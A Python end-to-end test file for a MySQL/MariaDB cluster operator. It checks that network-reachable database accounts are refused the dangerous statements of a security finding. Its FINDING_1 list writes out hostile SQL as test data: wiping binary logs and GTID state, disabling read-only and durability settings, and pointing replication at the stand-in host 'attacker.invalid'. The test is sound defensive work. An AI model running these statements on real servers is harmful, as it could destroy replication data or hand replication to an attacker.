"""No account that another pod can log in as may run a statement of issue 22's finding 1 (wiping
the binary logs and GTID state, pointing a server at another source, setting global variables)
over TCP. The server's own list of accounts that accept a login from elsewhere than the pod itself
is the cluster's replication, application and (MySQL: the CLONE donor's side, only with the pods'
certificate) backup accounts, and each is refused every statement; the switchover account of
earlier versions, which could run them, is gone (the switchover Job asks the pods' agents)."""

import pytest

from .harness import HarnessError
from .sql import SQL_CONTAINER

TLS_DIR = "/etc/mysql-cluster/tls"  # where the pods' certificate is mounted (component contract)

pytestmark = pytest.mark.e2e

# Secret key of each account's password, by the account's user name (component contract).
PASSWORD_KEYS = {"replicator": "replication-password", "backup": "backup-password"}
# Hosts of the accounts that accept a login only from inside the pod ('' : MariaDB's roles).
POD_ONLY_HOSTS = ("localhost", "127.0.0.1", "::1", "")
FINDING_1 = {
    "mariadb": ["RESET MASTER", "SET GLOBAL gtid_strict_mode=0", "SET GLOBAL read_only=0",
                "CHANGE MASTER TO MASTER_HOST='attacker.invalid'"],
    "mysql": ["RESET BINARY LOGS AND GTIDS", "SET GLOBAL super_read_only=0",
              "SET GLOBAL sync_binlog=0", "SET GLOBAL innodb_flush_log_at_trx_commit=0",
              "CHANGE REPLICATION SOURCE TO SOURCE_HOST='attacker.invalid'"],
}


def outcome(cluster, user: str, password: str, sql: str, certificate: bool = False) -> str:
    """"ran", or the server's refusal, for `sql` sent over TCP to the primary's DNS name; with
    `certificate`, the client presents the pods' own certificate."""
    harness = cluster.harness
    argv = harness.sql_client(user=user, password=password, host=harness.dns_name(cluster.primary))
    if certificate:
        argv += [f"--ssl-cert={TLS_DIR}/tls.crt", f"--ssl-key={TLS_DIR}/tls.key"]
    try:
        harness.exec(cluster.primary, SQL_CONTAINER, argv, timeout=30, input_text=sql)
    except HarnessError as error:
        return str(error)
    return "ran"


def network_accounts(cluster) -> set[str]:
    """user@host of every account of the primary's server that accepts a login from another pod."""
    hosts = ", ".join(f"'{host}'" for host in POD_ONLY_HOSTS)
    rows = cluster.harness.run_sql(cluster.primary,
                                   f"SELECT CONCAT(user, '@', host) FROM mysql.user WHERE host NOT IN ({hosts})")
    return {row[0] for row in rows if row[0] is not None}


@pytest.mark.timeout(300)
def test_no_network_account_runs_a_statement_of_finding_1(mariadb_cluster):
    cluster = mariadb_cluster(replicas=1)
    secret = cluster.harness.manifests.secret_data(f"{cluster.harness.name}-credentials")
    accounts = {user: secret[key].decode() for user, key in PASSWORD_KEYS.items()}
    accounts[cluster.app_user] = cluster.app_password
    # Every account another pod can log in as is one of these: none the test does not try.
    assert network_accounts(cluster) == {"replicator@%", f"{cluster.app_user}@%"} | (
        {"backup@%"} if cluster.flavor == "mysql" else set())
    # With its password alone nobody logs in as the backup account from the network: MariaDB's
    # exists for 127.0.0.1 alone, MySQL's (the CLONE donor's side) requires the pods' certificate.
    login = {user: outcome(cluster, user, password, "SELECT CURRENT_USER()")
             for user, password in accounts.items()}
    assert "Access denied for user 'backup'" in login.pop("backup")
    assert login == dict.fromkeys(login, "ran")
    if cluster.flavor == "mysql":
        assert outcome(cluster, "backup", accounts["backup"], "SELECT CURRENT_USER()",
                       certificate=True) == "ran"
        certified = {sql: outcome(cluster, "backup", accounts["backup"], sql, certificate=True)
                     for sql in FINDING_1["mysql"]}
        assert {sql: "denied" in result for sql, result in certified.items()} == dict.fromkeys(
            FINDING_1["mysql"], True), f"backup with the pods' certificate: {certified}"

    statements = FINDING_1[cluster.flavor]
    for user in login:
        results = {sql: outcome(cluster, user, accounts[user], sql) for sql in statements}
        assert {sql: "denied" in result for sql, result in results.items()} == dict.fromkeys(
            statements, True), f"{user}: {results}"
